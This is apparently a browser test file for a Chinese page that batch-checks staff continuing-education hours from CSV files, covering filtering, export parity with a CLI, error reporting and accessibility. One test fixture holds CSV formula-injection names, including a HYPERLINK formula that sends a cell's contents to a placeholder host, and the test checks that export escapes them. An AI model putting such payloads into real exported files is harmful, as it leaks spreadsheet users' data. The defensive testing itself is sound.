// The page 单位批量核查 (dist/cehours-unit.html) from file://, driven as a
// 人事 officer would: a GBK CSV chosen through the file input, the table
// filtered to 未达标, a person opened, the table exported. The CLI on the same
// file is the reference for the exported bytes.

import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { test } from 'node:test';
import { CLI, ROOT, SCREENSHOTS, launch, scratch, watch } from '../browser/helpers.mjs';

const UNIT_URL = pathToFileURL(join(ROOT, 'dist/cehours-unit.html')).href;
const FIXTURES = join(ROOT, 'tests/fixtures/batch');
const AS_OF = '2017-11-26';

// What Excel on a Chinese Windows writes: the fixture in GBK.
function gbkFile(name) {
  const path = join(scratch, name);
  writeFileSync(path, execFileSync('iconv', ['-f', 'UTF-8', '-t', 'GBK', join(FIXTURES, 'unit.csv')]));
  return path;
}

async function openUnitPage(browser, width) {
  const context = await browser.newContext({ viewport: { width, height: 900 }, locale: 'zh-CN', acceptDownloads: true });
  const page = await context.newPage();
  const watched = watch(context, page);
  await page.goto(UNIT_URL);
  await page.waitForFunction(() => !document.getElementById('file').disabled);
  return { context, page, watched };
}

async function load(page, path) {
  await page.fill('#as-of', AS_OF);
  await page.setInputFiles('#file', path);
  await page.waitForSelector('body[data-state="finished"]');
}

const shownNames = (page) => page.$$eval('#table tbody th', (cells) => cells.map((c) => c.textContent));
const shownStatuses = (page) => page.$$eval('#table tbody td:nth-child(6)', (cells) => cells.map((c) => c.textContent));

test('a GBK CSV through the file input: filter to 未达标, open a person, export as the CLI writes it', async () => {
  const browser = await launch();
  mkdirSync(SCREENSHOTS, { recursive: true });
  try {
    const { context, page, watched } = await openUnitPage(browser, 1280);
    assert.match(await page.textContent('.privacy'), /不会上传/);
    const path = gbkFile('单位记录-GBK.csv');
    await load(page, path);

    const names = await shownNames(page);
    assert.deepEqual([...new Set(names)], ['张三 0101', '李四 0102', '王喆 0103', '欧阳, 娜娜'], 'names read from GBK, none mangled');
    assert.ok((await shownStatuses(page)).includes('已达标'));
    assert.match(await page.textContent('#status'), /全部 4 人已核算完毕，4 人未达标。/);

    await page.check('#short-only');
    const statuses = await shownStatuses(page);
    assert.ok(statuses.length > 0 && !statuses.includes('已达标'), `only 未达标 rows: ${statuses}`);
    await page.selectOption('#year', '2017');
    await page.selectOption('#category', 'professional');
    assert.deepEqual(await shownNames(page), ['李四 0102', '王喆 0103', '欧阳, 娜娜'], '2017, professional hours short');
    await page.fill('#search', '欧阳');
    assert.deepEqual(await shownNames(page), ['欧阳, 娜娜']);
    await page.screenshot({ path: join(SCREENSHOTS, 'unit-table-1280.png'), fullPage: true });

    await page.click('#table tbody th button');
    await page.waitForSelector('#person[open]');
    const detail = await page.textContent('#person');
    assert.match(detail, /欧阳, 娜娜/);
    assert.match(detail, /专业类：已取得 12.5 \/ 应取得 60 学时，尚差 47.5 学时/);
    assert.match(detail, /第13行/, 'each line names the file line of its record');
    assert.match(detail, /计划：还需 257.5 学时/, 'the plan with its total, as the table and the CLI give it');
    await page.screenshot({ path: join(SCREENSHOTS, 'unit-person-1280.png') });
    await page.click('#close');

    const [download] = await Promise.all([page.waitForEvent('download'), page.click('#export')]);
    const exported = readFileSync(await download.path());
    const cli = execFileSync(CLI, ['batch', '--as-of', AS_OF, path]);
    assert.ok(exported.equals(cli), 'the export is byte for byte what cehours batch writes');

    assert.deepEqual(watched.requests.filter((u) => !u.startsWith('file://') && !u.startsWith('blob:')), [], 'no network');
    assert.deepEqual(watched.problems, []);
    await context.close();
  } finally {
    await browser.close();
  }
});

test('names a spreadsheet would run as formulas are exported with a leading apostrophe, as cehours batch writes them', async () => {
  const browser = await launch();
  try {
    const { context, page, watched } = await openUnitPage(browser, 1280);
    const path = join(FIXTURES, 'formula-names.csv');
    await load(page, path);
    // Shown as typed on the page: only the file for a spreadsheet is made safe.
    assert.ok((await shownNames(page)).includes('=HYPERLINK("http://x.example/?"&A1;"点我")'));
    const [download] = await Promise.all([page.waitForEvent('download'), page.click('#export')]);
    const exported = readFileSync(await download.path());
    assert.ok(exported.equals(execFileSync(CLI, ['batch', '--as-of', AS_OF, path])), 'byte for byte what cehours batch writes');
    const text = exported.toString('utf8');
    for (const name of ['"\'=HYPERLINK(""http://x.example/?""&A1;""点我"")"', "'+1+2", "'@SUM(1)", "'-2"]) {
      assert.ok(text.includes(`\r\n${name},`), name);
    }
    assert.ok(text.includes('\r\n李 =不在开头,'), 'a formula sign after the first character changes nothing');
    assert.deepEqual(watched.problems, []);
    await context.close();
  } finally {
    await browser.close();
  }
});

test('bad rows are listed with line, column and field; the rest is evaluated; 375 px', async () => {
  const browser = await launch();
  try {
    const { context, page, watched } = await openUnitPage(browser, 375);
    await load(page, join(FIXTURES, 'bad-rows.csv'));
    assert.match(await page.textContent('#file-errors'), /第1行第7列的列名“备注”无法识别/);
    await page.screenshot({ path: join(SCREENSHOTS, 'unit-table-375.png'), fullPage: true });
    await page.click('#table tbody th button');
    await page.waitForSelector('#person[open]');
    assert.match(await page.textContent('#person'), /第2行第5列的“学时”（hours）应为数字/);
    await page.screenshot({ path: join(SCREENSHOTS, 'unit-person-375.png') });
    assert.deepEqual(watched.problems, []);
    await context.close();
  } finally {
    await browser.close();
  }
});

test('no axe violations (WCAG 2.1 A/AA): the table, and a person opened', async () => {
  const AXE = createRequire(join(ROOT, 'tests/browser/package.json')).resolve('axe-core/axe.min.js');
  const browser = await launch();
  try {
    // axe is injected as a script; the page's CSP would (rightly) refuse it.
    const context = await browser.newContext({ viewport: { width: 1280, height: 900 }, bypassCSP: true });
    const page = await context.newPage();
    await page.goto(UNIT_URL);
    await page.waitForFunction(() => !document.getElementById('file').disabled);
    await load(page, join(FIXTURES, 'bad-rows.csv'));
    const violations = async () => {
      await page.addScriptTag({ path: AXE });
      return page.evaluate(async () => (await window.axe.run(document, { runOnly: { type: 'tag', values: ['wcag2a', 'wcag2aa', 'wcag21a', 'wcag21aa'] } }))
        .violations.map((v) => `${v.id}: ${v.nodes.slice(0, 3).map((n) => n.target.join(' ')).join(', ')}`));
    };
    assert.deepEqual(await violations(), [], 'the table');
    await page.click('#table tbody th button');
    await page.waitForSelector('#person[open]');
    assert.deepEqual(await violations(), [], 'a person opened');
    await context.close();
  } finally {
    await browser.close();
  }
});
